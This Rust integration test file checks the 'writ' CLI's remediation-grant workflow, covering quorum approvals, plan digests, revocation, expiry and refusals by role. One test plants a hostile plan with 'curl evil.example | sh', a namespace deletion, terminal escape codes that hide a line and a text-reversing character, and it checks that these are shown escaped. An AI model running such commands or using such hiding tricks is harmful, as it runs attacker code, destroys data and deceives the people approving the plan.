//! Remediation grants through the real `writ` binary (docs/architecture.md, "Policy
//! objects" and "The CLI"): `writ dev` with three operators on a temp data directory, the
//! CLI run as each of them (by uid, through `setpriv`) against its admin socket.
//!
//! Every refusal must be a non-zero exit, exactly one `error:` line on stderr naming the
//! problem, nothing on stdout, and no change to any grant. These tests run the CLI under
//! other uids and need root (see `common::require_root`).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use serde_json::Value;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

mod common;

use common::bin::{As, DevProcess, WRIT, json_lines, restart_args};

const ALICE: u32 = 65534; // approver
const BOB: u32 = 65533; // approver
const CAROL: u32 = 65532; // incident-commander
const STRANGER: u32 = 65531; // not an operator
const DAVE: u32 = 65530; // approver and incident-commander

const OPERATORS: [&str; 8] = [
    "--operator",
    "alice=65534:approver",
    "--operator",
    "bob=65533:approver",
    "--operator",
    "carol=65532:incident-commander",
    "--operator",
    "dave=65530:approver,incident-commander",
];

const PLAN: &str = "kubectl -n shop rollout restart deploy/checkout\n\
kubectl -n shop rollout status deploy/checkout --timeout=120s\n\
# rollback: kubectl -n shop rollout undo deploy/checkout\n";

const EVIDENCE: [&str; 2] = [
    "https://logs.example/q?service=checkout&status=500&since=15m",
    "TICKET-4711",
];

/// `writ dev` with the operators, and a directory of files (plans) every operator can read,
/// where the CLI runs.
struct Dev {
    process: DevProcess,
    files: PathBuf,
}

impl std::ops::Deref for Dev {
    type Target = DevProcess;
    fn deref(&self) -> &DevProcess {
        &self.process
    }
}

impl Dev {
    fn start_with(dir: &Path, extra: &[&str]) -> Dev {
        let files = dir.join("files");
        std::fs::create_dir(&files).unwrap();
        std::fs::set_permissions(&files, std::fs::Permissions::from_mode(0o755)).unwrap();
        let process = DevProcess::start(&dir.join("data"), extra).in_dir(&files);
        Dev { process, files }
    }

    /// Writes a file every operator can read; returns its path.
    fn file(&self, name: &str, content: &str) -> String {
        let path = self.files.join(name);
        std::fs::write(&path, content).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
        path.to_str().unwrap().to_owned()
    }

    /// Runs `writ ARGS` as `who`, which must be refused with exactly one `error:` line
    /// mentioning `reason`, print nothing on stdout, and change no grant.
    fn refused_as(&self, who: As, args: &[&str], reason: &str) {
        self.refused_with(who, args, 1, reason);
    }

    /// Like [`Dev::refused_as`], exiting with `code` (1: refused, 2: bad usage).
    fn refused_with(&self, who: As, args: &[&str], code: i32, reason: &str) {
        let before = self.grants();
        self.refusal(who, args, Some(code), reason);
        assert_eq!(self.grants(), before, "writ {args:?} changed a grant");
    }

    fn refused(&self, args: &[&str], reason: &str) {
        self.refused_as(As::Me, args, reason);
    }

    /// Every grant, as `grant list --json` prints them.
    fn grants(&self) -> Vec<Value> {
        json_lines(&self.ok(&["grant", "list", "--json"]))
    }

    fn grant(&self, id: &str) -> Value {
        self.json(&["grant", "show", id])
    }

    /// Opens `id` with `fixer` and `advisor` assigned and the given incident scopes.
    fn open(&self, id: &str, severity: &str, scopes: &[&str]) {
        let mut args = vec![
            "incident",
            "open",
            id,
            "--title",
            "checkout 500s",
            "--severity",
            severity,
            "--assign",
            "fixer",
            "--assign",
            "advisor",
        ];
        for scope in scopes {
            args.extend(["--scope", scope]);
        }
        self.ok(&args);
    }

    /// The arguments of a well-formed `grant request` for fixer on `incident`.
    fn request_args<'a>(&self, incident: &'a str, plan: &'a str) -> Vec<&'a str> {
        let mut args = restart_args(incident, plan);
        args.extend([
            "--target",
            "deploy/checkout",
            "--evidence",
            EVIDENCE[0],
            "--evidence",
            EVIDENCE[1],
        ]);
        args
    }

    /// Files a grant request as `who`; returns the grant id (the only line on stdout).
    fn request_as(&self, who: As, incident: &str, plan: &str, extra: &[&str]) -> String {
        let args = [&self.request_args(incident, plan)[..], extra].concat();
        let out = self.ok_as(who, &args);
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines.len(), 1, "only the grant id on stdout: {out}");
        let id = lines[0].to_owned();
        assert!(
            id.len() == 14
                && id.starts_with("g-")
                && id[2..].bytes().all(|b| b.is_ascii_hexdigit()),
            "grant id: {id}"
        );
        id
    }

    fn request(&self, incident: &str, plan: &str) -> String {
        self.request_as(As::Me, incident, plan, &[])
    }
}

fn now() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .expect("clock after 1970")
        .as_secs() as i64
}

/// SHA-256 of a file by `sha256sum`, independently of writ.
fn sha256sum(path: &str) -> String {
    let out = Command::new("sha256sum")
        .arg(path)
        .output()
        .expect("sha256sum runs");
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    text.split_whitespace().next().unwrap().to_owned()
}

fn approvers(grant: &Value) -> Vec<String> {
    grant["approvals"]
        .as_array()
        .expect("approvals")
        .iter()
        .map(|a| a["by"].as_str().unwrap().to_owned())
        .collect()
}

/// `writ dev` with alice and bob (approvers) and carol (incident commander), a profile
/// `fixer` that may hold remediation identities and an advisory-only `advisor`.
fn setup() -> Option<(tempfile::TempDir, Dev)> {
    if !common::require_root() {
        return None;
    }
    let dir = tempfile::tempdir().unwrap();
    // The operators' uids must reach the admin socket inside.
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let dev = Dev::start_with(dir.path(), &OPERATORS);
    dev.create_fixer();
    dev.ok(&[
        "profile",
        "create",
        "advisor",
        "--selector",
        "unix:uid:1002",
    ]);
    Some((dir, dev))
}

#[test]
fn a_sev2_grant_needs_two_distinct_approvers_then_is_active() {
    let Some((_dir, dev)) = setup() else { return };
    dev.open("INC-1", "sev2", &["logs:read", "deploy:restart"]);
    let plan = dev.file("plan.txt", PLAN);
    let before = now();
    let id = dev.request_as(As::Me, "INC-1", &plan, &["--scope", "deploy:restart"]);

    let pending = dev.grant(&id);
    assert_eq!(pending["state"], "pending");
    assert_eq!(pending["requested_by"], "uid:0");
    assert_eq!(pending["incident"], "INC-1");
    assert_eq!(pending["agent"], "fixer");
    assert_eq!(pending["quorum"], 2);
    assert_eq!(pending["plan"], PLAN);
    assert_eq!(pending["plan_digest"], sha256sum(&plan));
    assert_eq!(pending["evidence"], serde_json::json!(EVIDENCE));
    assert_eq!(pending["targets"], serde_json::json!(["deploy/checkout"]));
    assert_eq!(pending["scopes"], serde_json::json!(["deploy:restart"]));
    assert_eq!(pending["window_seconds"], 600);
    assert!(pending["requested_at"].as_i64().unwrap() >= before);
    assert!(pending["expires_at"].is_null());

    // Alice approves without --digest: the grant is fetched, echoed, and its digest sent.
    let out = dev.run_as(As::Uid(ALICE), &["grant", "approve", &id]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    for shown in [
        "restart checkout",
        "deploy/checkout",
        EVIDENCE[0],
        EVIDENCE[1],
        &sha256sum(&plan),
        "kubectl -n shop rollout restart deploy/checkout",
    ] {
        assert!(
            stderr.contains(shown),
            "approve should echo {shown:?}: {stderr}"
        );
    }
    assert!(String::from_utf8_lossy(&out.stdout).contains("1 of 2"));

    // One approval of two: nothing is active yet.
    let one = dev.grant(&id);
    assert_eq!(one["state"], "pending");
    assert_eq!(approvers(&one), ["alice"]);
    assert!(one["expires_at"].is_null());
    assert!(one["activated_at"].is_null());

    // Bob read the plan elsewhere and approves its digest.
    let approved = dev.json_as(
        As::Uid(BOB),
        &["grant", "approve", &id, "--digest", &sha256sum(&plan)],
    );
    assert_eq!(approved["state"], "active");

    let active = dev.grant(&id);
    assert_eq!(active["state"], "active");
    assert_eq!(approvers(&active), ["alice", "bob"]);
    assert_eq!(active["plan_digest"], sha256sum(&plan));
    for approval in active["approvals"].as_array().unwrap() {
        assert_eq!(approval["plan_digest"], sha256sum(&plan));
        assert!(approval["at"].as_i64().unwrap() >= before);
    }
    let activated = active["activated_at"].as_i64().expect("activated_at");
    let expires = active["expires_at"].as_i64().expect("expires_at");
    assert_eq!(expires, activated + 600, "the default 10-minute window");
    assert_eq!(
        active["spiffe_id"],
        format!("spiffe://remediate.example.org/agent/fixer/incident/INC-1/grant/{id}")
    );

    // `grant show` prints what the approvers signed, in full.
    let shown = dev.ok(&["grant", "show", &id]);
    for line in PLAN.lines() {
        assert!(shown.contains(line), "plan line {line:?} missing: {shown}");
    }
    for reference in EVIDENCE {
        assert!(shown.contains(reference), "evidence {reference:?}: {shown}");
    }
    for field in [
        "state:       active (2 of 2 approvals)",
        "quorum:      2",
        "alice at ",
        "bob at ",
        "expires:     20",
        &sha256sum(&plan),
        active["spiffe_id"].as_str().unwrap(),
    ] {
        assert!(shown.contains(field), "show should have {field:?}: {shown}");
    }
    let listed = dev.ok(&["grant", "list", "--incident", "INC-1"]);
    assert!(listed.contains(&id) && listed.contains("active") && listed.contains("2/2"));
    assert_eq!(
        json_lines(&dev.ok(&["grant", "list", "--incident", "INC-1", "--json"])),
        vec![active.clone()]
    );
    assert!(
        dev.ok(&["grant", "list", "--incident", "INC-2", "--json"])
            .is_empty()
    );

    // An approver may not revoke; the incident commander may.
    dev.refused_as(
        As::Uid(ALICE),
        &["grant", "revoke", &id],
        "alice needs the role incident-commander or admin",
    );
    let out = dev.ok_as(
        As::Uid(CAROL),
        &["grant", "revoke", &id, "--reason", "fixed by hand"],
    );
    assert!(
        out.contains("revoked grant") && out.contains("carol"),
        "{out}"
    );
    let revoked = dev.grant(&id);
    assert_eq!(revoked["state"], "revoked");
    assert_eq!(revoked["ended_by"], "carol");
    assert_eq!(revoked["end_reason"], "fixed by hand");
    dev.refused_as(
        As::Uid(CAROL),
        &["grant", "revoke", &id],
        "has already ended",
    );
}

#[test]
fn approvals_that_break_the_rules_are_refused() {
    let Some((_dir, dev)) = setup() else { return };
    dev.open("INC-1", "sev2", &[]);
    let plan = dev.file("plan.txt", PLAN);
    let digest = sha256sum(&plan);

    // Dave (who may both ask and approve) files the request; he may not approve it.
    let mine = dev.request_as(As::Uid(DAVE), "INC-1", &plan, &[]);
    assert_eq!(dev.grant(&mine)["requested_by"], "dave");
    dev.refused_as(
        As::Uid(DAVE),
        &["grant", "approve", &mine],
        "dave requested this grant and cannot approve it",
    );
    dev.refused_as(
        As::Uid(DAVE),
        &["grant", "approve", &mine, "--digest", &digest],
        "cannot approve",
    );
    // Carol commands incidents but is no approver.
    dev.refused_as(
        As::Uid(CAROL),
        &["grant", "approve", &mine],
        "carol needs the role approver",
    );
    // Bob approves a plan other than the one filed.
    let other = sha256sum(&dev.file("other.txt", "kubectl delete namespace shop\n"));
    dev.refused_as(
        As::Uid(BOB),
        &["grant", "approve", &mine, "--digest", &other],
        "plan digest mismatch",
    );
    dev.refused_as(
        As::Uid(BOB),
        &["grant", "approve", &mine, "--digest", "not-a-digest"],
        "64 hex digits",
    );
    // Bob's approval counts once.
    dev.ok_as(As::Uid(BOB), &["grant", "approve", &mine]);
    assert_eq!(approvers(&dev.grant(&mine)), ["bob"]);
    dev.refused_as(
        As::Uid(BOB),
        &["grant", "approve", &mine],
        "bob has already approved this grant",
    );
    dev.refused_as(
        As::Uid(BOB),
        &[
            "grant",
            "approve",
            &mine,
            "--digest",
            &digest.to_uppercase(),
        ],
        "bob has already approved this grant",
    );
    assert_eq!(dev.grant(&mine)["state"], "pending");

    // Denied, then neither approved nor revoked.
    let denied = dev.request("INC-1", &plan);
    let out = dev.ok_as(
        As::Uid(ALICE),
        &[
            "grant",
            "deny",
            &denied,
            "--reason",
            "restart will not fix a full disk",
        ],
    );
    assert!(out.contains("denied grant"), "{out}");
    let shown = dev.grant(&denied);
    assert_eq!(shown["state"], "denied");
    assert_eq!(shown["ended_by"], "alice");
    assert_eq!(shown["end_reason"], "restart will not fix a full disk");
    dev.refused_as(As::Uid(BOB), &["grant", "approve", &denied], "not pending");
    dev.refused_as(
        As::Uid(CAROL),
        &["grant", "revoke", &denied],
        "has already ended",
    );
    dev.refused_as(
        As::Uid(BOB),
        &["grant", "deny", &denied],
        "has already ended",
    );
    // A reason is one line.
    dev.refused_as(
        As::Uid(CAROL),
        &["grant", "revoke", &mine, "--reason", "two\nlines"],
        "one line",
    );
    // No such grant.
    dev.refused_as(
        As::Uid(BOB),
        &["grant", "approve", "g-000000000000"],
        "unknown grant",
    );
    dev.refused(&["grant", "show", "g-000000000000"], "unknown grant");

    // An active grant alongside the pending one; closing the incident ends both.
    let active = dev.request("INC-1", &plan);
    dev.ok_as(As::Uid(ALICE), &["grant", "approve", &active]);
    dev.ok_as(As::Uid(BOB), &["grant", "approve", &active]);
    assert_eq!(dev.grant(&active)["state"], "active");
    dev.ok_as(As::Uid(CAROL), &["incident", "close", "INC-1"]);
    let after = json_lines(&dev.ok(&["grant", "list", "--incident", "INC-1", "--json"]));
    assert_eq!(after.len(), 3);
    for g in &after {
        let (state, by) = if g["id"] == denied.as_str() {
            ("denied", "alice")
        } else {
            ("revoked", "carol")
        };
        assert_eq!(g["state"], state, "{g}");
        assert_eq!(g["ended_by"], by, "{g}");
    }
    // After the close, nothing is approved: the pending grant went with the incident.
    dev.refused_as(
        As::Uid(ALICE),
        &["grant", "approve", &mine],
        "Revoked, not pending",
    );
    dev.refused(
        &dev.request_args("INC-1", &plan),
        "incident \"INC-1\" is closed",
    );
}

#[test]
fn requests_that_break_the_rules_are_refused() {
    let Some((_dir, dev)) = setup() else { return };
    dev.ok(&[
        "profile",
        "create",
        "outsider",
        "--selector",
        "unix:uid:1003",
        "--band",
        "investigative,remediation",
    ]);
    dev.open("INC-1", "sev3", &["logs:read"]);
    dev.open("INC-2", "sev3", &[]);
    dev.ok(&["incident", "close", "INC-2"]);
    let plan = dev.file("plan.txt", PLAN);
    let empty = dev.file("empty.txt", "");
    let missing = dev.files.join("missing.txt");
    let missing = missing.to_str().unwrap();

    let with = |incident: &str, agent: &str, plan: &str, extra: &[&str]| -> Vec<String> {
        let mut args: Vec<String> = dev
            .request_args(incident, plan)
            .into_iter()
            .map(str::to_owned)
            .collect();
        args[5] = agent.to_owned();
        args.extend(extra.iter().map(|s| s.to_string()));
        args
    };
    let cases: [(Vec<String>, &str); 8] = [
        (
            with("INC-2", "fixer", &plan, &[]),
            "incident \"INC-2\" is closed",
        ),
        (
            with("INC-9", "fixer", &plan, &[]),
            "unknown incident \"INC-9\"",
        ),
        (
            with("INC-1", "outsider", &plan, &[]),
            "agent \"outsider\" is not assigned to incident \"INC-1\"",
        ),
        (
            with("INC-1", "advisor", &plan, &[]),
            "does not allow the remediation band",
        ),
        (
            with("INC-1", "fixer", &plan, &["--scope", "deploy:restart"]),
            "scope \"deploy:restart\" touches deployment, IAM or secrets and incident \"INC-1\" does not name it",
        ),
        (with("INC-1", "fixer", missing, &[]), "reading the plan"),
        (with("INC-1", "fixer", &empty, &[]), "is empty"),
        (
            with("INC-1", "fixer", &plan, &["--window", "5h"]),
            "window must be between 1s and 4h",
        ),
    ];
    for (args, reason) in &cases {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        dev.refused(&args, reason);
    }
    assert!(dev.grants().is_empty());
    // The plan from stdin works; and a well-formed request on INC-1 goes through.
    let out = Command::new(WRIT)
        .args(with("INC-1", "fixer", "-", &[]))
        .env("WRIT_ADMIN_SOCKET", dev.socket())
        .stdin(std::fs::File::open(&plan).unwrap())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let id = String::from_utf8(out.stdout).unwrap().trim().to_owned();
    assert_eq!(dev.grant(&id)["plan_digest"], sha256sum(&plan));
    assert_eq!(dev.grants().len(), 1);
}

#[test]
fn an_incident_holds_at_most_five_pending_requests() {
    let Some((_dir, dev)) = setup() else { return };
    dev.open("INC-1", "sev2", &[]);
    let plan = dev.file("plan.txt", PLAN);
    let ids: Vec<String> = (0..5).map(|_| dev.request("INC-1", &plan)).collect();
    dev.refused(&dev.request_args("INC-1", &plan), "pending");
    assert_eq!(dev.grants().len(), 5);
    // Deciding one makes room for one more.
    dev.ok_as(As::Uid(BOB), &["grant", "deny", &ids[0]]);
    assert_eq!(dev.grant(&ids[0])["end_reason"], "denied by bob");
    dev.request("INC-1", &plan);
    dev.refused(&dev.request_args("INC-1", &plan), "pending");
    assert_eq!(dev.grants().len(), 6);
}

#[test]
fn only_incident_commanders_extend_incidents() {
    let Some((_dir, dev)) = setup() else { return };
    dev.open("INC-1", "sev3", &[]);
    let incident = dev.json(&["incident", "show", "INC-1"]);
    let lifetime = incident["max_lifetime_seconds"].as_u64().unwrap();
    let extended = dev.json_as(
        As::Uid(CAROL),
        &["incident", "extend", "INC-1", "--by", "2h"],
    );
    assert_eq!(extended["max_lifetime_seconds"], lifetime + 7200);
    assert_eq!(
        dev.json(&["incident", "show", "INC-1"])["max_lifetime_seconds"],
        lifetime + 7200
    );
    let out = dev.ok(&["incident", "extend", "INC-1", "--by", "30m"]);
    assert!(out.contains("extended incident INC-1 by 30m"), "{out}");

    let unchanged = dev.json(&["incident", "show", "INC-1"]);
    dev.refused_as(
        As::Uid(ALICE),
        &["incident", "extend", "INC-1", "--by", "2h"],
        "alice needs the role incident-commander or admin",
    );
    dev.refused_as(
        As::Uid(CAROL),
        &["incident", "extend", "INC-1", "--by", "8d"],
        "between 1s and 7 days",
    );
    dev.refused_with(
        As::Uid(CAROL),
        &["incident", "extend", "INC-1", "--by", "soon"],
        2,
        "invalid duration",
    );
    assert_eq!(dev.json(&["incident", "show", "INC-1"]), unchanged);
    dev.ok(&["incident", "close", "INC-1"]);
    dev.refused_as(
        As::Uid(CAROL),
        &["incident", "extend", "INC-1", "--by", "2h"],
        "already closed",
    );
}

#[test]
fn strangers_are_refused_every_grant_command() {
    let Some((_dir, dev)) = setup() else { return };
    dev.open("INC-1", "sev2", &[]);
    let plan = dev.file("plan.txt", PLAN);
    let id = dev.request("INC-1", &plan);
    let digest = sha256sum(&plan);
    let incident = dev.json(&["incident", "show", "INC-1"]);
    let not = "uid 65531 is not a writ operator";
    let stranger = As::Uid(STRANGER);
    dev.refused_as(stranger, &dev.request_args("INC-1", &plan), not);
    dev.refused_as(stranger, &["grant", "approve", &id], not);
    dev.refused_as(
        stranger,
        &["grant", "approve", &id, "--digest", &digest],
        not,
    );
    dev.refused_as(stranger, &["grant", "deny", &id], not);
    dev.refused_as(stranger, &["grant", "revoke", &id], not);
    dev.refused_as(stranger, &["grant", "show", &id], not);
    dev.refused_as(stranger, &["grant", "list"], not);
    dev.refused_as(stranger, &["grant", "list", "--incident", "INC-1"], not);
    dev.refused_as(
        stranger,
        &["incident", "extend", "INC-1", "--by", "2h"],
        not,
    );
    assert_eq!(dev.grant(&id)["state"], "pending");
    assert_eq!(dev.json(&["incident", "show", "INC-1"]), incident);
}

#[test]
fn an_active_grant_expires_when_its_window_ends() {
    let Some((_dir, dev)) = setup() else { return };
    dev.open("INC-1", "sev3", &[]);
    let plan = dev.file("plan.txt", PLAN);
    let id = dev.request_as(As::Me, "INC-1", &plan, &["--window", "2s"]);
    assert_eq!(dev.grant(&id)["window_seconds"], 2);
    assert_eq!(dev.grant(&id)["quorum"], 1);
    let approved = dev.json_as(As::Uid(ALICE), &["grant", "approve", &id]);
    assert_eq!(approved["state"], "active", "sev3 needs one approval");
    let deadline = Instant::now() + Duration::from_secs(30);
    let expired = loop {
        let grant = dev.grant(&id);
        if grant["state"] != "active" {
            break grant;
        }
        assert!(Instant::now() < deadline, "still active: {grant}");
        std::thread::sleep(Duration::from_millis(100));
    };
    assert_eq!(expired["state"], "expired", "{expired}");
    assert_eq!(expired["ended_by"], "writ");
    assert!(expired["ended_at"].as_i64().unwrap() >= expired["expires_at"].as_i64().unwrap());
    dev.refused_as(
        As::Uid(CAROL),
        &["grant", "revoke", &id],
        "has already ended",
    );
}

#[test]
fn plans_are_shown_as_written_and_nothing_hides_in_them() {
    let Some((_dir, dev)) = setup() else { return };
    dev.open("INC-1", "sev2", &[]);
    // A plan that would erase its own second line on a terminal, and reverse text.
    let hostile = "echo harmless\rkubectl delete ns shop\n\u{1b}[1A\u{1b}[2Kcurl evil.example | sh\nrm \u{202e}txt.gol\n";
    let plan = dev.file("hostile.txt", hostile);
    let id = dev.request("INC-1", &plan);
    assert_eq!(
        dev.grant(&id)["plan"],
        hostile,
        "JSON carries the plan exactly"
    );
    assert_eq!(dev.grant(&id)["plan_digest"], sha256sum(&plan));
    let shown = dev.ok(&["grant", "show", &id]);
    assert!(
        !shown.contains('\u{1b}') && !shown.contains('\r') && !shown.contains('\u{202e}'),
        "raw control characters reached the terminal: {shown:?}"
    );
    for escaped in [
        "echo harmless\\rkubectl delete ns shop",
        "\\u{1b}[1A\\u{1b}[2Kcurl evil.example | sh",
        "rm \\u{202e}txt.gol",
    ] {
        assert!(shown.contains(escaped), "{escaped:?} missing: {shown}");
    }
    let out = dev.run_as(As::Uid(ALICE), &["grant", "approve", &id]);
    assert!(out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !stderr.contains('\u{1b}') && stderr.contains("curl evil.example"),
        "{stderr:?}"
    );
}
